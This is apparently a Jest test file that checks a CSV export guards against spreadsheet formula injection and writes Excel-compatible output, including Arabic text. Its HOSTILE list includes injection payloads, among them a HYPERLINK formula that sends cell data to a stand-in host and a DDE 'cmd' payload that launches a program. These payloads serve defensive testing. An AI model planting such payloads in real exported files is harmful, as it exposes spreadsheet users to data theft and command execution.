import { describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { incidentCsv, notificationCsv, safeCell } from '../../../lib/console/api/csv.ts';
import type { ApiIncident, ApiNotification } from '../../../lib/domain/api/schemas.ts';

const NOW = Date.parse('2026-11-26T12:00:00.000Z');
const BOM = '\ufeff';

const notification = (message: string): ApiNotification => ({
  id: '01K7ZZZZZZZZZZZZZZZZZZZZZZ',
  receivedAt: '2026-11-26T11:00:00.000Z',
  source: 'main',
  endpoint: 'https://shop.example/hooks',
  code: -503,
  message,
});

const table = (rows: readonly ApiNotification[]): string => {
  const csv = notificationCsv(NOW);
  return csv.header + rows.map(csv.line).join('');
};

/** What a spreadsheet would run: whatever stands before it in quotes and blanks is not seen. */
const isFormula = (cell: string): boolean =>
  /^[\s\p{Z}\p{Cf}"]*[=+\-@]/u.test(cell.normalize('NFKC')) && !/^-?\d+$/.test(cell);

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  '""=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  ';=1+1',
  'a;=1+1',
  'a; =1+1',
  'a;"=1+1"',
  'a";=1+1;"b',
  'a","=1+1',
  ',=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n-1+1',
  'a;＝1+1',
  ';;=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1;"click")',
  "=cmd|' /C calc'!A0",
];

describe.each(HOSTILE)('%j', (text) => {
  const csv = table([notification(text), { ...notification('fine'), source: text, raw: text }]);

  test('is no cell that is run, where lists are separated by commas', () => {
    const rows: string[][] = parse(csv, { bom: true });
    expect(rows.flat().filter(isFormula)).toEqual([]);
    expect(rows.map((row) => row.length)).toEqual([11, 11, 11]);
  });

  test('nor by semicolons, whether quotes are seen or not', () => {
    const rows: string[][] = parse(csv, {
      bom: true,
      delimiter: ';',
      relax_quotes: true,
      relax_column_count: true,
    });
    expect(rows.flat().filter(isFormula)).toEqual([]);
    const cells = csv.slice(BOM.length).split(/[;\t\r\n]/);
    expect(cells.filter(isFormula)).toEqual([]);
  });

  test('is still there to be read', () => {
    const [, row = []]: string[][] = parse(csv, { bom: true });
    expect(row[6]?.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });
});

test('a text that is none is left as it is', () => {
  for (const text of ['connect ECONNREFUSED 10.0.0.1:443', 'انقطع الاتصال', 'a-b; c = d, e+f', '5 = 5'])
    expect(safeCell(text)).toBe(text);
});

test('Excel reads Arabic: a byte order mark, CRLF, each text in quotes and each number without', () => {
  const csv = table([notification('انقطع الاتصال، "مهلة"')]);
  expect(Buffer.from(csv).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  const lines = csv.slice(BOM.length).split('\r\n');
  expect(lines).toHaveLength(3);
  expect(lines[2]).toBe('');
  expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  expect(lines[0]).toBe(
    '"id","receivedAt","source","incidentId","endpoint","code","message","fieldProblems","problem","mentionedUrl","raw"',
  );
  expect(lines[1]).toBe(
    '"01K7ZZZZZZZZZZZZZZZZZZZZZZ","2026-11-26T11:00:00.000Z","main",,"https://shop.example/hooks",-503,"انقطع الاتصال، ""مهلة""",,,,',
  );
});

test('incidents have the columns that people want', () => {
  const incident: ApiIncident = {
    incidentId: 'k-1',
    endpointKey: 'k',
    number: 1,
    name: 'Orders, Riyadh',
    family: 'orders',
    severity: 'critical',
    state: 'resolved',
    count: 7,
    openedAt: '2026-11-26T10:00:00.000Z',
    lastAt: '2026-11-26T10:30:00.000Z',
    acknowledgedBy: 'نورة',
    acknowledgedAt: '2026-11-26T10:05:00.000Z',
    resolvedAt: '2026-11-26T11:15:00.000Z',
    cause: 'unavailable',
    area: 'application downtime',
    summary: 'Down: at least 7 events lost.',
    codes: {},
    sources: {},
    sample: { at: '2026-11-26T10:30:00.000Z' },
    isTest: false,
    attention: 'over',
    heldBack: [],
    story: 'It is down. Our own probe got 503 too.',
    firstCheck: 'Look at it.',
    steps: [{ text: 'Look at it:', command: 'curl x' }, { text: 'Mend it.' }],
    backfill: {
      from: '2026-11-26T09:58:00.000Z',
      to: '2026-11-26T10:30:00.000Z',
      why: 'x',
      isEndProven: false,
    },
    verdict: {
      kind: 'confirmed',
      confidence: 'certain',
      sentence: 'We see it too.',
      cause: 'unavailable',
      area: 'application downtime',
    },
  };
  const { resolvedAt: _, ...open } = incident;
  const csv = incidentCsv(NOW);
  const rows: Record<string, string>[] = parse(csv.header + csv.line(incident) + csv.line(open), {
    bom: true,
    columns: true,
  });
  expect(rows[0]).toMatchObject({
    cause: 'unavailable',
    verdict: 'We see it too.',
    story: 'It is down. Our own probe got 503 too.',
    steps: 'Look at it: curl x | Mend it.',
    acknowledgedBy: 'نورة',
    acknowledgedAt: '2026-11-26T10:05:00.000Z',
    windowFrom: '2026-11-26T09:58:00.000Z',
    windowTo: '2026-11-26T10:30:00.000Z',
    minutesDown: '75',
    count: '7',
  });
  expect(rows[1]).toMatchObject({ minutesDown: '120', resolvedAt: '' });
  expect(csv.line(incident)).toContain(',75,');
});
